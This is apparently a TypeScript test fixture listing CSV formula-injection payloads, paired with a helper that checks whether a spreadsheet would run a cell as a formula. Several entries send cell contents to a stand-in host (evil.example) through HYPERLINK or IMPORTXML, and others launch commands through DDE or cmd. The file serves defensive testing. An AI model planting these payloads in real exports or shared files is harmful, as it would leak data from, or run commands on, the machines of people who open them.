/**
 * Texts that spreadsheets (Excel, LibreOffice, Google Sheets) run as formulas when a CSV cell
 * starts with them, from published CSV-injection payload lists; shared by every CSV output's tests.
 */
export const FORMULA_PAYLOADS: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '+cmd|x',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '-1+HYPERLINK("http://evil.example","x")',
  '-',
  '@SUM(1+1)*cmd|x',
  '@x',
  '\t=1+1',
  '\r=1+1',
  '\tplain tab',
  '\rplain cr',
  ' =1+1',
  '  +1',
  '\u00a0=1',
  '\u3000=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '=DDE("cmd";"/C calc";"x")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  "'=1+1",
  '"=1+1"',
  '=1;=2',
  '=1,=2',
];

/** True when a spreadsheet would run the cell (as read back from the file) as a formula. */
export function isFormulaCell(cell: string): boolean {
  const c = cell.charCodeAt(0);
  return c === 9 || c === 13 || /^[ \u00a0\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell);
}
